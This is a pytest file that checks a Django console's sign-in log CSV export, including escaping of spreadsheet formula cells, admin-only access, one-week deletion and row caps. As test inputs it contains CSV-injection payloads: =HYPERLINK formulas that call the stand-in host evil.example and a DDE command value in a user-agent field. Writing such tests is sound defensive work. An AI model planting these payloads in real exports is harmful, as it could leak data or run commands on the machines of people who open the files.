"""The sign-in log exported as CSV by a real Celery worker, with progress in the console
and formula cells neutralised (SECURITY item 38)."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from django_tenants.utils import tenant_context

from audit.models import AuditEvent, SignInEvent, SignInLogExport
from ciam.spreadsheets import spreadsheet_safe
from tests.helpers import eventually

pytestmark = [pytest.mark.server]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("ada@example.com", "ada@example.com"),
        ("a=b", "a=b"),
        (None, ""),
    ],
)
def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(cell, written):
    assert spreadsheet_safe(cell) == written


def test_export_runs_in_the_worker_and_downloads_a_safe_csv(
    worlds, committed, celery_worker_process
):
    world = worlds["acme"]
    marker = uuid.uuid4().hex[:12]
    formula = f'=HYPERLINK("http://evil.example/?{marker}","open me")'
    with tenant_context(world.tenant):
        for number in range(3):
            SignInEvent.objects.create(
                email_typed=f"{marker}-{number}@partner.example", method="password",
                result="failure", failure_reason="no_such_user", ip_address="198.51.100.7",
                user_agent="curl/8.5.0",
            )  # fmt: skip
        SignInEvent.objects.create(
            email_typed=formula, method="password", result="failure",
            user_agent="-cmd|' /C calc'!A0",
        )  # fmt: skip
        SignInEvent.objects.create(  # another result: filtered out
            email_typed=f"{marker}-ok@partner.example", method="password", result="success"
        )
    admin = world.client(user=world.admin)
    started = admin.post(
        "/console/logs/sign-ins/exports/", {"q": marker, "result": "failure", "days": "1"}
    )
    assert started.status_code == 302
    page = started["Location"]
    first = admin.get(page).content.decode()
    assert "Sign-in log export" in first and f"“{marker}”" in first

    eventually(
        lambda: "Download CSV" in admin.get(page).content.decode(),
        timeout=30,
        interval=0.1,
        message="the export did not finish",
    )
    fragment = admin.get(page, HTTP_HX_REQUEST="true").content.decode()
    assert "<html" not in fragment and "hx-trigger" not in fragment  # polling stopped
    download = admin.get(f"{page}download/")
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert download["Content-Disposition"].startswith('attachment; filename="sign-ins-')
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["time (UTC)", "user", "user id", "email typed"]
    assert len(body) == 4  # the failures matching the search, not the success
    typed = {row[header.index("email typed")] for row in body}
    assert "'" + formula in typed and formula not in typed
    agents = {row[header.index("user agent")] for row in body}
    assert "'-cmd|' /C calc'!A0" in agents and "curl/8.5.0" in agents
    assert {row[header.index("browser")] for row in body} >= {"curl"}
    with tenant_context(world.tenant):
        export = SignInLogExport.objects.get(public_id=page.rstrip("/").rsplit("/", 1)[1])
        assert (export.rows_total, export.rows_done, export.status) == (4, 4, "done")
        assert AuditEvent.objects.filter(
            action="sign_in_log.export", target_id=str(export.public_id)
        ).exists()


def test_only_the_sign_in_log_readers_export(acme):
    member = acme.client(user=acme.member)
    assert member.post("/console/logs/sign-ins/exports/", {"q": "x"}).status_code == 403
    with tenant_context(acme.tenant):
        export = SignInLogExport.objects.create(status="done", content="time (UTC)\n")
    assert member.get(f"/console/logs/sign-ins/exports/{export.public_id}/").status_code == 403
    download = f"/console/logs/sign-ins/exports/{export.public_id}/download/"
    assert member.get(download).status_code == 403
    assert acme.client(user=acme.admin).get(download).status_code == 200


def test_exports_are_forgotten_after_a_week(acme):
    from django.utils import timezone

    from audit.services import sign_in_export_start
    from audit.tasks import sign_in_exports_forget_all
    from tenants.models import TenantWork
    from tests.helpers import work_due_tenants, work_index_clear, work_index_later

    forget = TenantWork.Kind.SIGN_IN_EXPORTS_FORGET
    work_index_clear()
    with tenant_context(acme.tenant):
        SignInLogExport.objects.all().delete()
        old = sign_in_export_start(actor=acme.admin, filters={})
        # Written with the export: the public work index says when it is to be forgotten.
        assert work_due_tenants(forget) == set()
        SignInLogExport.objects.filter(pk=old.pk).update(
            created_at=timezone.now() - timezone.timedelta(days=8)
        )
    work_index_later(acme, forget, timezone.timedelta(days=8))
    with tenant_context(acme.tenant):
        recent = sign_in_export_start(actor=acme.admin, filters={})
    assert work_due_tenants(forget) == {"acme"}
    result = sign_in_exports_forget_all()
    assert result == {"tenants": 1, "deleted": 1}
    with tenant_context(acme.tenant):
        assert not SignInLogExport.objects.filter(pk=old.pk).exists()
        assert SignInLogExport.objects.filter(pk=recent.pk).exists()
    # The recent one is next, a week after it was written.
    row = TenantWork.objects.get(tenant=acme.tenant, kind=forget)
    assert row.due_at == recent.created_at + timezone.timedelta(days=7)


def test_an_export_holds_the_newest_rows_up_to_its_cap(acme, monkeypatch):
    from audit import services

    marker = uuid.uuid4().hex[:12]
    with tenant_context(acme.tenant):
        for number in range(3):
            SignInEvent.objects.create(
                email_typed=f"{marker}-{number}@x.example", method="password", result="failure"
            )
        monkeypatch.setattr(SignInLogExport, "MAX_ROWS", 2)
        export = SignInLogExport.objects.create(filters={"search": marker})
        services.sign_in_export_run(export_id=export.pk)
        export.refresh_from_db()
    rows = list(csv.reader(io.StringIO(export.content)))[1:]
    assert [row[3] for row in rows] == [f"{marker}-2@x.example", f"{marker}-1@x.example"]
    page = acme.client(user=acme.admin).get(f"/console/logs/sign-ins/exports/{export.public_id}/")
    assert "These are the newest" in page.content.decode()


def test_an_export_says_which_second_factor_and_which_policies_served(acme):
    from audit import services

    marker = uuid.uuid4().hex[:12]
    policies = [
        {"id": "1", "name": "=HYPERLINK(\"http://evil.example\")", "state": "on",
         "result": "grant", "requirements": ["mfa"]},
        {"id": "2", "name": "Block risky", "state": "report_only", "result": "block"},
        {"id": "3", "name": "Guests only", "state": "on", "result": "not_applied",
         "reason": "not a guest"},
    ]  # fmt: skip
    with tenant_context(acme.tenant):
        SignInEvent.objects.create(
            email_typed=f"{marker}@x.example", method="password", result="success",
            mfa_used=True, mfa_method="totp", policies=policies,
        )  # fmt: skip
        export = SignInLogExport.objects.create(filters={"search": marker})
        services.sign_in_export_run(export_id=export.pk)
        export.refresh_from_db()
    header, row = list(csv.reader(io.StringIO(export.content)))
    assert row[header.index("MFA")] == "yes"
    assert row[header.index("MFA method")] == "totp"
    assert row[header.index("conditional access policies")] == (
        '\'=HYPERLINK("http://evil.example"): require mfa; Block risky: report-only, would block'
    )
